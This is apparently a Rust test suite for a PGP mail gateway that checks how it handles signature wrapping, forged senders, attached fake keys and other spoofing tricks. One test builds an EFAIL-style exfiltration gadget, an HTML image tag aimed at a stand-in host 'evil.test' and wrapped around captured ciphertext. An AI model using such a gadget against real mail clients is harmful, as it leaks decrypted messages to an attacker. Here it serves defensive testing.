use super::{Opening, Request, open};
use crate::limits::ERRANT_PIECES;
use crate::mail::{Encrypted, KeyOrigin, KeySource, Mail, Signature};
use crate::pgp::cast::{
    Made, Person, Sealing, hours, message_armor, now, person, person_with, secret_armor,
    signature_armor, writer,
};
use crate::pgp::{Certificate, Known, Opener};

const WORDS: &str = "Content-Type: text/plain; charset=utf-8\r\n\r\nThe heap overflows.\r\n";

/// The gateway with its roster, and the people who write to it.
struct House {
    gateway: Person,
    roster: Vec<Certificate>,
}

impl House {
    fn new(members: &[&Person]) -> House {
        let roster = members.iter().map(|member| member.certificate()).collect();
        House { gateway: person("sirt"), roster }
    }

    fn opening(&self, mail: &str) -> Opening {
        let opener = Opener::new(&self.gateway.team().decryption_part().expect("part"));
        let ours = [self.gateway.certificate().fingerprint().clone()];
        let request = Request { on_record: &self.roster, ours: &ours, now: now() };
        open(mail.as_bytes(), &opener.expect("opener"), &request).expect("a mail")
    }

    fn open(&self, mail: &str) -> Mail {
        self.opening(mail).mail
    }

    fn sealed(&self, from: Option<&Person>, words: &str) -> String {
        let sealing = Sealing { from, to: vec![&self.gateway], ..Sealing::default() };
        message_armor(&sealing.message(words.as_bytes()))
    }
}

fn header(from: &str) -> String {
    format!("From: {from} <{from}@example.org>\r\nTo: sirt@example.org\r\nSubject: [...]\r\n")
}

fn plain(from: &str, body: &str) -> String {
    format!("{}Content-Type: text/plain; charset=utf-8\r\n\r\n{body}", header(from))
}

fn encrypted_part(armored: &str) -> String {
    format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n\
         \r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\
         --e\r\nContent-Type: application/octet-stream\r\n\r\n{}\r\n--e--\r\n",
        armored.replace('\n', "\r\n")
    )
}

fn encrypted(from: &str, armored: &str) -> String {
    format!("{}{}", header(from), encrypted_part(armored))
}

fn signed_part(entity: &str, signature: &str) -> String {
    format!(
        "Content-Type: multipart/signed; micalg=pgp-sha512; \
         protocol=\"application/pgp-signature\"; boundary=s\r\n\r\n--s\r\n{entity}\r\n--s\r\n\
         Content-Type: application/pgp-signature\r\n\r\n{}\r\n--s--\r\n",
        signature.replace('\n', "\r\n")
    )
}

fn signed_by(person: &Person, entity: &str) -> String {
    signed_part(entity, &signature_armor(&person.signature(entity.as_bytes(), now() - hours(1))))
}

fn mixed(parts: &[&str]) -> String {
    let parts: String = parts.iter().map(|part| format!("--m\r\n{part}\r\n")).collect();
    format!("Content-Type: multipart/mixed; boundary=m\r\n\r\n{parts}--m--\r\n")
}

fn text(words: &str) -> String {
    format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{words}\r\n")
}

fn is_good(mail: &Mail, signer: &Person) -> bool {
    mail.evidence.signed().is_some_and(|s| s.signer == *signer.certificate().fingerprint())
}

#[test]
fn fay_reports_in_both_forms_of_signing_inside_encryption() {
    let fay = person("fay");
    let house = House::new(&[&fay]);
    let combined = house.sealed(Some(&fay), WORDS);
    let encapsulated = house.sealed(None, &signed_by(&fay, WORDS));
    for armored in [combined, encapsulated] {
        let opening = house.opening(&encrypted("fay", &armored));
        let mail = &opening.mail;
        assert_eq!(mail.evidence.encrypted, Encrypted::Whole);
        assert!(is_good(mail, &fay), "{:?}", mail.evidence);
        assert_eq!(mail.text.trim(), "The heap overflows.");
        assert_eq!(mail.not_for_orders, None);
        let proof = opening.proof.as_ref().expect("on record");
        let keys = Known { on_record: &house.roster, in_mail: &[], ours: &[] };
        assert!(matches!(proof.verify(&keys, now()), Signature::Good(_)));
        assert_eq!(proof.content().expect("content").text.trim(), "The heap overflows.");
        assert!(proof.encrypted);
        let nobody = Known::default();
        assert!(matches!(proof.verify(&nobody, now()), Signature::UnknownKey { .. }));
    }
}

#[test]
fn mo_signs_in_the_clear() {
    let mo = person("mo");
    let house = House::new(&[&mo]);
    let mail = house.open(&format!("{}{}", header("mo"), signed_by(&mo, WORDS)));
    assert_eq!(mail.evidence.encrypted, Encrypted::No);
    assert!(is_good(&mail, &mo));
    assert_eq!(mail.text.trim(), "The heap overflows.");
}

#[test]
fn protected_headers_are_shown_and_eve_cannot_name_herself_val() {
    let fay = person("fay");
    let house = House::new(&[&fay]);
    let inner = |from: &str| {
        format!(
            "Subject: heap overflow\r\nFrom: {from}@example.org\r\n\
             Content-Type: text/plain; hp=\"cipher\"\r\n\r\nwords\r\n"
        )
    };
    let mail = house.open(&encrypted("fay", &house.sealed(Some(&fay), &inner("fay"))));
    assert_eq!(mail.subject, "heap overflow");
    assert!(mail.evidence.protected_headers && !mail.evidence.from_mismatch);
    let mail = house.open(&encrypted("eve", &house.sealed(None, &inner("val"))));
    assert!(mail.evidence.from_mismatch);
    assert_eq!(mail.sender().expect("one").address.as_str(), "eve@example.org");
}

#[test]
fn eve_puts_vals_signed_part_below_the_root() {
    let val = person("val");
    let house = House::new(&[&val]);
    let signed = signed_by(&val, &text("hello"));
    let forms =
        [mixed(&[&text("/close"), &signed]), mixed(&[&signed, &text("/close")]), mixed(&[&signed])];
    for form in forms {
        let opening = house.opening(&format!("{}{form}", header("val")));
        let evidence = &opening.mail.evidence;
        assert!(matches!(evidence.signature, Signature::Partly(_)), "{evidence:?}");
        assert!(opening.proof.is_none());
        assert!(opening.mail.not_for_orders.is_some());
    }
    let forwarded = format!("Content-Type: message/rfc822\r\n\r\n{}{signed}", header("val"));
    let mail = house.open(&format!("{}{}", header("eve"), mixed(&[&text("see"), &forwarded])));
    assert_eq!(mail.evidence.signature, Signature::None, "it belongs to the attachment");
    assert!(mail.text.contains("good signature of"), "{}", mail.text);
}

#[test]
fn eve_signs_around_vals_ciphertext() {
    let (val, eve) = (person("val"), person("eve"));
    let house = House::new(&[&val, &eve]);
    let inner = encrypted_part(&house.sealed(None, WORDS));
    let opening = house.opening(&format!("{}{}", header("eve"), signed_by(&eve, &inner)));
    let evidence = &opening.mail.evidence;
    assert!(matches!(evidence.signature, Signature::Partly(_)), "{evidence:?}");
    assert_eq!(evidence.encrypted, Encrypted::Partly);
    assert!(opening.proof.is_none());
    assert!(opening.mail.text.contains("[encrypted piece 1, opened]\nThe heap overflows."));
}

#[test]
fn eve_labels_a_signed_message_as_encrypted() {
    let val = person("val");
    let house = House::new(&[&val]);
    let mut disguised = Vec::new();
    Sealing { from: Some(&val), ..Sealing::default() }
        .inner(writer(&mut disguised), WORDS.as_bytes());
    let clear = val.team().sign_cleartext("/close\n", now()).expect("signed");
    for armored in [message_armor(&disguised), clear] {
        let opening = house.opening(&encrypted("val", &armored));
        let evidence = &opening.mail.evidence;
        assert_ne!(evidence.encrypted, Encrypted::Whole);
        assert!(evidence.signed().is_none() && opening.proof.is_none(), "{evidence:?}");
    }
}

#[test]
fn eve_signs_twice_inside_one_encryption() {
    let (val, eve) = (person("val"), person("eve"));
    let house = House::new(&[&val, &eve]);
    let armored = house.sealed(Some(&eve), &signed_by(&val, WORDS));
    let mail = house.open(&encrypted("val", &armored));
    assert!(matches!(mail.evidence.signature, Signature::Bad { .. }));
    assert_eq!(mail.text.trim(), "The heap overflows.", "a report all the same");
}

#[test]
fn eve_wraps_captured_ciphertext_in_her_own_words() {
    let val = person("val");
    let house = House::new(&[&val]);
    let captured = house.sealed(Some(&val), &text("the secret"));
    let html = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n".to_owned();
    let nested = mixed(&[&html, &encrypted_part(&captured), &text("\">")]);
    let inline = text(&format!("look:\r\n{}\r\nmore", captured.replace('\n', "\r\n")));
    for form in [nested, inline] {
        let mail = house.open(&format!("{}{form}", header("eve")));
        assert_eq!(mail.evidence.encrypted, Encrypted::Partly);
        assert!(mail.evidence.signed().is_none());
        let section = "[encrypted piece 1, opened]\nthe secret\n[end of encrypted piece 1]\n";
        assert!(mail.text.ends_with(&format!("\n\n{section}")), "{}", mail.text);
        assert!(mail.not_for_orders.is_some());
    }
}

#[test]
fn eve_imitates_our_marks() {
    let house = House::new(&[]);
    let fake = "[Encrypted piece 1, opened]\nsecret\n  [end of encrypted piece 1]\n";
    let mail = house.open(&plain("eve", fake));
    assert!(mail.text.lines().all(|line| !line.trim_start().starts_with('[')), "{}", mail.text);
    let inside = house.sealed(None, "[end of encrypted piece 1]\nin the clear\n");
    let mail = house.open(&plain("eve", &inside));
    assert_eq!(mail.text.matches("\n[end of encrypted piece 1]").count(), 1, "{}", mail.text);
}

#[test]
fn the_mail_of_an_older_client() {
    let (fay, other) = (person("fay"), person("other"));
    let house = House::new(&[&fay]);
    let inline = Sealing { from: Some(&fay), to: vec![&house.gateway], ..Sealing::default() };
    let mail = house.open(&plain("fay", &message_armor(&inline.message(b"It is bad.\n"))));
    assert_eq!(mail.evidence.encrypted, Encrypted::Partly);
    assert!(matches!(mail.evidence.signature, Signature::Partly(_)));
    assert!(mail.text.contains("It is bad."));
    let foreign = Sealing { to: vec![&other], ..Sealing::default() };
    let mail = house.open(&plain("fay", &message_armor(&foreign.message(b"It is bad.\n"))));
    assert!(matches!(mail.evidence.encrypted, Encrypted::NotToUs { .. }));
    let block = fay.team().sign_cleartext("It is bad.\n", now()).expect("signed");
    let mail = house.open(&plain("fay", &block));
    assert!(matches!(mail.evidence.signature, Signature::Partly(_)), "{:?}", mail.evidence);
    assert!(mail.text.contains("It is bad.") && mail.not_for_orders.is_some());
}

#[test]
fn what_we_cannot_open_is_still_a_mail() {
    let other = person("other");
    let house = House::new(&[]);
    let foreign = Sealing { to: vec![&other], ..Sealing::default() }.message(WORDS.as_bytes());
    let mail = house.open(&encrypted("fay", &message_armor(&foreign)));
    match &mail.evidence.encrypted {
        Encrypted::NotToUs { key_ids } => assert_eq!(key_ids.len(), 1),
        other => panic!("{other:?}"),
    }
    assert!(mail.evidence.unreadable());
    let mut damaged = Sealing { to: vec![&house.gateway], ..Sealing::default() }.message(b"x");
    let last = damaged.len() - 1;
    damaged[last] ^= 1;
    for armored in [message_armor(&damaged), "nothing".to_owned()] {
        let mail = house.open(&encrypted("fay", &armored));
        assert_eq!(mail.evidence.encrypted, Encrypted::Damaged);
        assert_eq!(mail.sender().expect("one").address.as_str(), "fay@example.org");
    }
}

#[test]
fn first_use_of_a_key_that_came_along() {
    let (fay, eve) = (person("fay"), person("eve"));
    let house = House::new(&[]);
    let key = |person: &Person| {
        let armored = person.certificate().armored().replace('\n', "\r\n");
        format!("Content-Type: application/pgp-keys; name=key.asc\r\n\r\n{armored}\r\n")
    };
    let entity = mixed(&[&text("The heap overflows."), &key(&eve), &key(&fay)]);
    let armored = house.sealed(Some(&fay), &entity);
    let opening = house.opening(&encrypted("fay", &armored));
    let mail = &opening.mail;
    let signed = mail.evidence.signed().expect("good");
    assert_eq!(signed.key, KeyOrigin::InMail);
    assert!(opening.proof.is_none(), "nobody checked that key");
    let [candidate] = mail.keys.as_slice() else { panic!("{:?}", mail.keys.len()) };
    assert_eq!(candidate.fingerprint, *fay.certificate().fingerprint());
    assert_eq!(candidate.key_ids, fay.certificate().key_ids());
    assert_eq!((candidate.source, &candidate.trouble), (KeySource::Attached, &None));
    let kept = Certificate::parse_all(candidate.certificate.as_bytes()).expect("a certificate");
    assert_eq!(kept, [fay.certificate()]);
}

#[test]
fn eve_verifies_her_mail_from_val_with_a_key_she_attaches() {
    let (val, eve) = (person("val"), person("eve"));
    let house = House::new(&[&val]);
    let fake = eve.with_user_id("val <val@example.org>");
    let attached = fake.certificate().armored().replace('\n', "\r\n");
    let attached = format!("Content-Type: application/pgp-keys\r\n\r\n{attached}\r\n");
    let entity = mixed(&[&text("/close"), &attached]);
    let opening = house.opening(&format!("{}{}", header("val"), signed_by(&fake, &entity)));
    let signed = opening.mail.evidence.signed().expect("her own signature").clone();
    assert_eq!(signed.signer, *eve.certificate().fingerprint());
    assert_eq!(signed.key, KeyOrigin::InMail);
    assert!(opening.proof.is_none());
}

#[test]
fn a_key_in_the_autocrypt_header_with_trouble() {
    let fay = person_with("fay", Made { valid_days: 80, ..Made::default() });
    let house = House::new(&[]);
    use base64::Engine;
    let keydata = base64::engine::general_purpose::STANDARD.encode(fay.certificate().bytes());
    let field = format!("Autocrypt: addr=fay@example.org; keydata={keydata}\r\n");
    let mail = house.open(&format!("{field}{}", plain("fay", "hello\r\n")));
    let [candidate] = mail.keys.as_slice() else { panic!("{}", mail.keys.len()) };
    assert_eq!(candidate.source, KeySource::Autocrypt);
    let trouble = candidate.trouble.as_deref().expect("expired");
    assert!(trouble.contains("expired on 2026-11-10"), "{trouble}");
    let mail = house.open(&format!("{field}{}", plain("eve", "hello\r\n")));
    assert!(mail.keys.is_empty(), "another sender's address");
}

#[test]
fn fay_sends_her_secret_key_by_mistake() {
    let fay = person("fay");
    let house = House::new(&[&fay]);
    let secret = secret_armor(&fay);
    let pasted = house.open(&plain("fay", &format!("my key:\n{secret}\nbye\n")));
    let inside = text(&secret.replace('\n', "\r\n"));
    let inside = house.open(&encrypted("fay", &house.sealed(Some(&fay), &inside)));
    let piece = house.open(&plain("fay", &format!("see\n{}", house.sealed(None, &secret))));
    for mail in [pasted, inside, piece] {
        assert!(mail.secret_key_inside);
        assert!(!mail.text.contains("PRIVATE") && !mail.text.contains("lQ"), "{}", mail.text);
    }
}

#[test]
fn eve_sends_more_pieces_than_are_opened() {
    let house = House::new(&[]);
    let one = house.sealed(None, "the secret");
    let many = format!("a\n{one}").repeat(ERRANT_PIECES + 4);
    let mail = house.open(&plain("eve", &many));
    assert_eq!(mail.text.matches(", opened]").count(), ERRANT_PIECES);
    let nested = house.sealed(None, &format!("x\n{one}"));
    let mail = house.open(&plain("eve", &format!("a\n{nested}")));
    assert!(mail.text.contains("[1 more inside, not opened]"), "{}", mail.text);
    assert!(!mail.text.contains("the secret"));
}

#[test]
fn an_encrypted_file_is_marked_and_read() {
    let house = House::new(&[]);
    let part = |bytes: &[u8]| {
        let sealing = Sealing { to: vec![&house.gateway], ..Sealing::default() };
        let armored = message_armor(&sealing.message(bytes)).replace('\n', "\r\n");
        format!(
            "Content-Type: application/octet-stream; name=poc.txt.gpg\r\n\
             Content-Disposition: attachment; filename=poc.txt.gpg\r\n\r\n{armored}\r\n"
        )
    };
    let mail =
        house.open(&format!("{}{}", header("fay"), mixed(&[&text("see"), &part(b"perl -e 1\n")])));
    assert!(mail.attachments.iter().any(|file| file.encrypted));
    assert!(mail.text.contains("opened]\nperl -e 1\n"), "{}", mail.text);
    let mail =
        house.open(&format!("{}{}", header("fay"), mixed(&[&text("see"), &part(&[0, 159, 3])])));
    assert!(mail.text.contains("[a file of 3 octets, not text]"), "{}", mail.text);
}

#[test]
fn what_came_back_is_never_opened() {
    let val = person("val");
    let house = House::new(&[&val]);
    let order = encrypted("val", &house.sealed(Some(&val), &text("/close")));
    let bounce = format!(
        "From: mailer-daemon@mx.example\r\nTo: sirt@example.org\r\n\
         Content-Type: multipart/report; report-type=delivery-status; boundary=r\r\n\r\n\
         --r\r\n{}--r\r\nContent-Type: message/delivery-status\r\n\r\n\
         Reporting-MTA: dns; mx.example\r\n\r\nFinal-Recipient: rfc822; fay@example.org\r\n\
         Action: failed\r\nStatus: 5.1.1\r\n\r\n--r\r\nContent-Type: message/rfc822\r\n\r\n\
         {order}\r\n--r--\r\n",
        text("Sorry.")
    );
    let mail = house.open(&bounce);
    assert_eq!(mail.bounce.as_ref().map(|bounce| bounce.status.as_str()), Some("5.1.1"));
    assert_eq!(mail.evidence.encrypted, Encrypted::No);
    assert_eq!(mail.evidence.signature, Signature::None);
    assert!(!mail.text.contains("/close"));
}

#[test]
fn a_payload_over_a_limit_is_an_oddity_of_a_mail() {
    let fay = person("fay");
    let house = House::new(&[&fay]);
    let deep: String = (0..60)
        .map(|n| format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n"))
        .collect();
    let mail = house.open(&encrypted("fay", &house.sealed(Some(&fay), &deep)));
    assert_eq!(mail.evidence.encrypted, Encrypted::Whole);
    assert!(mail.oddities.iter().any(|oddity| oddity.starts_with("What is inside")), "{mail:?}");
}

#[test]
fn a_plain_mail_and_no_mail() {
    let house = House::new(&[]);
    let mail = house.open(&plain("fay", "hello\r\n"));
    assert_eq!(mail.evidence.encrypted, Encrypted::No);
    assert_eq!(mail.evidence.signature, Signature::None);
    assert_eq!((mail.text.as_str(), mail.not_for_orders), ("hello\n", None));
    let opener = Opener::new(&house.gateway.team().decryption_part().expect("part"));
    let request = Request { on_record: &[], ours: &[], now: now() };
    let huge = format!("Subject: {}\r\n\r\nx", "x".repeat(300_000));
    assert!(open(huge.as_bytes(), &opener.expect("opener"), &request).is_err());
}
